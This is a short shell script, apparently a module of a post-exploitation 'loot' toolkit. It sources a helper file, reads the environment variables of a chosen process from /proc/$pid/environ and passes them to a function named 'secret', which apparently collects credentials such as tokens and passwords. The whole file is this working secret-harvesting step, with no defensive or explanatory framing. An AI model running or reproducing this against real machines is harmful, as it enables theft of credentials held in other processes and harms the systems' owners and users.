#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# cat /proc/PID/environ
. "$(dirname "$0")/loot.sh"
cat "/proc/$pid/environ" | secret
